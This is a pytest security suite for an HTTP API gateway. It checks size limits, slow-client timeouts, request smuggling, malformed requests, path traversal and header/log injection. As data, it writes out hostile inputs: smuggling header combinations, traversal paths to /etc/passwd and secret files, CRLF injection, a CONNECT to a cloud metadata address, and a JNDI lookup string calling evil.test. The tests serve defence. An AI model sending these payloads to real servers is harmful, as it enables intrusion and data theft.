"""What strangers may send, and how long they may take: sizes, slowness, odd HTTP."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.api.http import BEARER, chat, request, say
from tests.fake_upstream import FakeUpstream, Json
from tests.live_server import LiveServer
from tests.security.conftest import BODY_SECONDS, HEADERS_SECONDS, wait_until
from tests.security.raw_client import RawClient, chat_bytes, head, statuses


def _memory_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text(encoding="ascii")
    found = re.search(r"VmRSS:\s+(\d+) kB", status)
    assert found
    return int(found[1])


@pytest.fixture(autouse=True)
def still_serving(server: LiveServer) -> Iterator[None]:
    """Whatever a test did, the next honest client is served."""
    yield
    assert chat(server.url, say("gpt-4o-mini")).status == 200


# Sizes.


def test_a_body_beyond_the_limit_is_refused_announced_or_not(server: LiveServer) -> None:
    answer = chat(server.url, say("gpt-4o-mini", "x" * 1_100_000))
    assert answer.status == 413
    assert answer.error["code"] == "request_too_large"
    with RawClient(server) as client:
        client.send(head("POST", "/api/v1/chat/completions", "transfer-encoding: chunked"))
        client.send_until_refused(b"10000\r\n" + b"x" * 65536 + b"\r\n", 4_000_000)
        assert statuses(client.read_all())[:1] in ([413], [])  # or the reset overtook it


def test_an_endless_body_does_not_grow_memory(server: LiveServer) -> None:
    before = _memory_kib(server.pid)
    for path in ("/api/v1/chat/completions", "/admin/login/"):
        with RawClient(server) as client:
            client.send(head("POST", path, "transfer-encoding: chunked"))
            sent = client.send_until_refused(b"10000\r\n" + b"x" * 65536 + b"\r\n", 200_000_000)
        assert sent < 200_000_000 or path.startswith("/api")
    assert _memory_kib(server.pid) - before < 40_000


def test_a_deep_body_is_refused_in_words(server: LiveServer) -> None:
    for text in (b"[" * 100_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000):
        answer = request(
            server.url, "/api/v1/chat/completions", method="POST", body=text, headers=dict(BEARER)
        )
        assert answer.status == 400, answer.body[:200]
        assert answer.error["type"] == "invalid_request_error"


def test_too_many_messages_are_refused_by_number(server: LiveServer, upstream: FakeUpstream) -> None:
    message = {"role": "user", "content": "x"}
    for model in ("gpt-4o-mini", "claude-sonnet-4"):
        assert chat(server.url, {"model": model, "messages": [message] * 100}).status == 200
        answer = chat(server.url, {"model": model, "messages": [message] * 101})
        assert answer.status == 400
        assert answer.error["param"] == "messages"
        assert answer.error["code"] == "array_above_max_length"
        assert "101" in answer.error["message"]
    assert len(upstream.requests) == 2


@pytest.mark.parametrize("shape", ["one header", "many headers", "one name", "one path"])
def test_a_megabyte_of_headers_is_refused_and_forgotten(server: LiveServer, shape: str) -> None:
    before = _memory_kib(server.pid)
    start = b"GET /healthz HTTP/1.1\r\nhost: x\r\n"
    for _ in range(20):
        with RawClient(server) as client:
            match shape:
                case "one header":
                    client.send(start + b"x-big: ")
                    sent = client.send_until_refused(b"y" * 4096, 1 << 20)
                case "many headers":
                    client.send(start)
                    sent = client.send_until_refused(b"x-a: y\r\n" * 512, 1 << 20)
                case "one name":
                    client.send(start)
                    sent = client.send_until_refused(b"n" * 4096, 1 << 20)
                case _:
                    client.send(b"GET /")
                    sent = client.send_until_refused(b"p" * 4096, 1 << 20)
            said = client.read_all()
        assert statuses(said) in ([431], [])  # or the reset overtook it
        assert sent <= 1 << 20
    assert _memory_kib(server.pid) - before < 10_000


def test_headers_over_the_limit_get_431_in_openai_s_shape(server: LiveServer) -> None:
    for lines in (["x-big: " + "y" * 66_000], [f"x-{number}: y" for number in range(250)]):
        with RawClient(server) as client:
            client.send(head("GET", "/healthz", *lines))
            status, headers, body = client.read_response()
        assert status == 431
        assert headers["connection"] == "close"
        assert set(json.loads(body)["error"]) == {"message", "type", "param", "code"}


def test_headers_within_the_limit_are_taken(server: LiveServer) -> None:
    with RawClient(server) as client:
        client.send(head("GET", "/healthz", "x-big: " + "y" * 60_000))
        assert client.read_response()[0] == 200
        client.send(head("GET", "/healthz", *[f"x-{number}: y" for number in range(150)]))
        assert client.read_response()[0] == 200


def test_endless_trailers_and_chunk_extensions_are_cut_off(server: LiveServer) -> None:
    before = _memory_kib(server.pid)
    start = head("POST", "/api/v1/chat/completions", "transfer-encoding: chunked")
    for opening, piece in ((b"0\r\n", b"x-trailer: y\r\n" * 300), (b"1;", b"e" * 4096)):
        with RawClient(server) as client:
            client.send(start + opening)
            assert client.send_until_refused(piece, 64 << 20) < 64 << 20
    assert _memory_kib(server.pid) - before < 20_000


def test_trailers_are_no_headers(server: LiveServer, upstream: FakeUpstream) -> None:
    body = json.dumps(say("gpt-4o-mini")).encode()
    with RawClient(server) as client:
        client.send(head("POST", "/api/v1/chat/completions", "transfer-encoding: chunked"))
        client.send(b"%x\r\n%b\r\n0\r\ntraceparent: smuggled\r\n\r\n" % (len(body), body))
        assert client.read_response()[0] == 200
    assert upstream.requests[-1].header("traceparent") is None


def test_trailers_are_no_headers_of_the_next_request_either(
    server: LiveServer, upstream: FakeUpstream
) -> None:
    body = json.dumps(say("gpt-4o-mini")).encode()
    with RawClient(server) as client:
        client.send(
            head("POST", "/api/v1/chat/completions", "transfer-encoding: chunked")
            + b"%x\r\n%b\r\n0\r\ntraceparent: smuggled\r\n\r\n" % (len(body), body)
            + chat_bytes()
        )
        assert [client.read_response()[0] for _ in range(2)] == [200, 200]
    assert [each.header("traceparent") for each in upstream.requests] == [None, None]


# Slowness.


def _is_bounded(seconds: float, limit: float) -> bool:
    return limit * 0.5 < seconds < limit + 3.0


def test_a_silent_connection_is_closed(server: LiveServer) -> None:
    with RawClient(server) as client:
        assert _is_bounded(client.seconds_until_closed(), HEADERS_SECONDS)


def test_headers_that_drip_are_cut_off(server: LiveServer) -> None:
    """Each byte is news; the time is counted from the first."""
    began = time.monotonic()
    with RawClient(server, timeout=0.1) as client:
        said = b""
        client.send(b"GET /healthz HTTP/1.1\r\n")
        while time.monotonic() - began < 10:
            if client.send_until_refused(b"x", 1) == 0:
                break
            try:
                said += client.read_all()
                break
            except TimeoutError:
                pass
    assert _is_bounded(time.monotonic() - began, HEADERS_SECONDS)
    assert statuses(said) in ([408], [])


def test_headers_that_drip_on_a_kept_connection_are_cut_off_too(server: LiveServer) -> None:
    with RawClient(server) as client:
        client.send(head("GET", "/healthz"))
        assert client.read_response()[0] == 200
        client.send(b"GET /healthz HT")
        assert _is_bounded(client.seconds_until_closed(), HEADERS_SECONDS)


@pytest.mark.parametrize("path", ["/api/v1/chat/completions", "/admin/login/"])
def test_a_body_that_stalls_is_cut_off(server: LiveServer, path: str) -> None:
    began = time.monotonic()
    with RawClient(server) as client:
        client.send(head("POST", path, "content-length: 100") + b"{")
        assert client.read_response()[0] == 408
        assert _is_bounded(time.monotonic() - began, BODY_SECONDS)
        # What never came does not keep the connection, however it goes on.
        client.seconds_until_closed()
        assert time.monotonic() - began < BODY_SECONDS + 8.0


def test_a_slow_request_does_not_cost_the_one_before_it(server: LiveServer) -> None:
    """A pipelined head waits for as long as the answer before it takes."""
    with RawClient(server) as client:
        client.send(chat_bytes() + b"GET /healthz HTTP/1.1\r\n")
        assert client.read_response()[0] == 200
        client.send(b"host: x\r\n\r\n")
        assert client.read_response()[0] == 200


def test_two_hundred_half_open_connections_hold_nobody_up(server: LiveServer) -> None:
    clients = [RawClient(server) for _ in range(200)]
    try:
        for client in clients:
            client.send(b"POST /api/v1/chat/completions HTTP/1.1\r\n")
        began = time.monotonic()
        assert chat(server.url, say("gpt-4o-mini")).status == 200
        assert time.monotonic() - began < 1.0
        for client in clients:
            client.read_all()
        assert time.monotonic() - began < HEADERS_SECONDS + 3.0
    finally:
        for client in clients:
            client.__exit__()


def test_who_leaves_an_answer_unread_is_cut_off(security_upstream: FakeUpstream) -> None:
    """Else a client that reads nothing would hold an upstream's stream for as long as it likes."""
    upstream = security_upstream
    upstream.reset()
    settings = {
        "OPENAI_BASE_URL": upstream.openai_url,
        "OPENAI_API_KEY": "test-x",
        "RESPONSE_READ_TIMEOUT": "0.5",
    }
    with LiveServer(settings) as own:
        upstream.always(Json(200, {"choices": [{"message": {"content": "x" * 20_000_000}}]}))
        with RawClient(own) as client:
            client.send(chat_bytes())
            upstream.wait_for_request()
            time.sleep(2.0)
            assert len(client.read_all()) < 20_000_000
    upstream.reset()


# Odd HTTP: one request is one request, for everybody on the way.

SMUGGLING = {
    "length and chunked": b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunked and length": b"transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
    "two lengths": b"content-length: 2\r\ncontent-length: 40\r\n\r\n{}",
    "two equal lengths": b"content-length: 2\r\ncontent-length: 2\r\n\r\n{}",
    "a list of lengths": b"content-length: 2, 2\r\n\r\n{}",
    "a negative length": b"content-length: -1\r\n\r\n",
    "a signed length": b"content-length: +2\r\n\r\n{}",
    "a hexadecimal length": b"content-length: 0x2\r\n\r\n{}",
    "a length beyond 64 bits": b"content-length: 99999999999999999999999\r\n\r\n{}",
    "an unknown coding": b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunked not last": b"transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "a space before the colon": b"transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
    "a folded header": b"transfer-encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "a chunk size that is none": b"transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
    "a negative chunk": b"transfer-encoding: chunked\r\n\r\n-2\r\n{}\r\n0\r\n\r\n",
    "a chunk beyond 64 bits": b"transfer-encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n",
    "a chunk longer than said": b"transfer-encoding: chunked\r\n\r\n1\r\n{}\r\n0\r\n\r\n",
    "bare line feeds in chunks": b"transfer-encoding: chunked\r\n\r\n2\n{}\n0\n\n",
    "a bare return": b"x-a: b\rtransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "a null byte": b"x-a: b\x00c\r\ncontent-length: 0\r\n\r\n",
}


@pytest.mark.parametrize("name", SMUGGLING)
def test_smuggling_shapes_are_refused_and_the_connection_closed(
    server: LiveServer, upstream: FakeUpstream, name: str
) -> None:
    """Never 200 for what is hidden behind: at most one answer, an error, and no more."""
    hidden = b"GET /readyz HTTP/1.1\r\nhost: x\r\n\r\n"
    with RawClient(server) as client:
        client.send(
            b"POST /api/v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer t\r\n"
            + SMUGGLING[name]
            + hidden
        )
        said = client.read_all()
    assert all(status >= 400 for status in statuses(said)), said
    assert b"config_version" not in said
    assert len(statuses(said)) <= 2, said  # the request's own answer, and the refusal of the rest
    assert upstream.requests == []


ODD_REQUESTS = {
    "no version": b"GET /healthz\r\n\r\n",
    "an unknown version": b"GET /healthz HTTP/9.9\r\n\r\n",
    "an unknown method": b"HACK /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
    "a proxy's CONNECT": b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nhost: x\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a space in the path": b"GET /health z HTTP/1.1\r\nhost: x\r\n\r\n",
    "bytes in the path": b"GET /\xff\xfe HTTP/1.1\r\nhost: x\r\n\r\n",
    "a null in the path": b"GET /healthz\x00 HTTP/1.1\r\nhost: x\r\n\r\n",
    "a header without a colon": b"GET /healthz HTTP/1.1\r\nhost x\r\n\r\n",
    "a header without a name": b"GET /healthz HTTP/1.1\r\n: x\r\n\r\n",
    "an absolute target without a path": b"GET http://evil.test HTTP/1.1\r\nhost: x\r\n\r\n",
    "nothing but line breaks": b"\r\n" * 40_000,
}


@pytest.mark.parametrize("name", ODD_REQUESTS)
def test_what_is_no_request_is_refused_without_a_trace(server: LiveServer, name: str) -> None:
    with RawClient(server) as client:
        client.send_until_refused(ODD_REQUESTS[name], len(ODD_REQUESTS[name]))
        said = client.read_all()
    assert all(400 <= status < 500 or status == 505 for status in statuses(said)), said
    assert b"Traceback" not in said


ODD_PATHS = [
    "/api/v1/../../admin/",
    "/api/v1/%2e%2e/%2e%2e/admin/",
    "/api/v1/models/../chat/completions",
    "//api/v1/models",
    "/api//v1/models",
    "/api/v1/models/%00",
    "/api/v1/models/%2e%2e%2f%2e%2e%2fadmin",
    "/api/v1/models/..%5c..%5cadmin",
    "/api/v1/models/%0d%0aset-cookie:%20a=b",
    "/api/v1/models/%ff%fe",
    "/api/v1/models/%u002e",
    "/api/v1/models;/../admin",
    "/v1/%63hat%2fcompletions/x",
    "/static/../manage.py",
    "/static/%2e%2e/%2e%2e/manage.py",
    "/static/..%2f..%2fdata/secret_key",
    "/static//etc/passwd",
    "/admin/../static/../data/patchbay.sqlite3",
    "http://evil.test/static/../manage.py",
]


@pytest.mark.parametrize("path", ODD_PATHS)
def test_path_tricks_lead_nowhere(server: LiveServer, path: str) -> None:
    with RawClient(server) as client:
        client.send(head("GET", path, "connection: close"))
        said = client.read_all()
    (status,) = statuses(said)
    assert status in {301, 302, 400, 404}, said
    if status in {301, 302}:  # the admin's own: to its login, on this host
        assert re.search(rb"\r\nlocation: /(admin/|$|[^/])", said, re.IGNORECASE), said
    assert b"\r\nset-cookie: a=b" not in said.lower()
    assert b"DJANGO_SETTINGS_MODULE" not in said
    assert b"SQLite format" not in said


def test_an_absolute_target_is_served_by_its_path_and_fetched_from_nobody(
    server: LiveServer, upstream: FakeUpstream
) -> None:
    with RawClient(server) as client:
        client.send(head("GET", f"{upstream.url}/healthz", "connection: close"))
        assert statuses(client.read_all()) == [200]
    assert upstream.requests == []


def test_pipelined_requests_are_answered_in_their_order(server: LiveServer) -> None:
    with RawClient(server) as client:
        client.send(head("GET", "/healthz") + chat_bytes() + head("GET", "/api/v1/nothing"))
        assert [client.read_response()[0] for _ in range(3)] == [200, 200, 404]


def test_an_upgrade_is_ignored(server: LiveServer) -> None:
    logged = len(server.log())
    for protocol in ("websocket", "h2c"):
        with RawClient(server) as client:
            client.send(head("GET", "/healthz", "connection: upgrade", f"upgrade: {protocol}"))
            assert client.read_response()[0] == 200
    assert len(server.log()) == logged


# Injection: client text in headers and in the log.

NASTY = [
    "gpt-4o\r\nset-cookie: a=b",
    "gpt-4o\nx-injected: 1",
    "gpt-4o\x00\x1b[2J\x1b[31mred",
    "gpt-4o\u2028forged\u0085line",
    "gpt-4o\u202egnp.exe",
    'gpt-4o" status=200 model="x',
    "名" * 500,
    "x" * 500_000,
    "../../etc/passwd",
    "{{7*7}} ${jndi:ldap://evil.test/a}",
]


@pytest.mark.parametrize("name", NASTY, ids=range(len(NASTY)))
def test_a_model_s_name_injects_nothing(server: LiveServer, name: str) -> None:
    logged = len(server.log())
    answer = chat(server.url, say(name))
    assert answer.status == 404
    assert not {"set-cookie", "x-injected"} & set(answer.headers)
    assert len(answer.body) < 2_000
    wait_until(lambda: len(server.log()) > logged)
    added = server.log()[logged:]
    assert added.count("\n") == 1, "more than the one line of the request"
    assert len(added) < 4_000
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", added)


def test_names_of_ignored_parameters_inject_nothing(server: LiveServer) -> None:
    body = say("claude-sonnet-4") | dict.fromkeys(NASTY, 1)
    logged = len(server.log())
    answer = chat(server.url, body)
    assert answer.status == 200, answer.body
    ignored = answer.headers["x-patchbay-ignored"]
    assert len(ignored) <= 1024
    assert re.fullmatch(r"[ -~]*", ignored)
    assert not {"set-cookie", "x-injected"} & set(answer.headers)
    wait_until(lambda: len(server.log()) > logged)
    added = server.log()[logged:]
    assert added.count("\n") == 1
    assert len(added) < 20_000


@pytest.mark.parametrize(
    "sent",
    ["a b", "x" * 129, "a\tb", "é", "<script>", "-starts-so", "a,b", '"', "${jndi:x}"],
)
def test_a_request_id_that_is_not_sane_is_replaced(server: LiveServer, sent: str) -> None:
    answer = chat(server.url, say("gpt-4o-mini"), headers={"x-request-id": sent})
    assert re.fullmatch(r"req_[0-9a-f]{32}", answer.headers["x-request-id"])


def test_a_sane_request_id_is_kept(server: LiveServer) -> None:
    answer = chat(server.url, say("gpt-4o-mini"), headers={"x-request-id": "trace-1.2:3_4"})
    assert answer.headers["x-request-id"] == "trace-1.2:3_4"
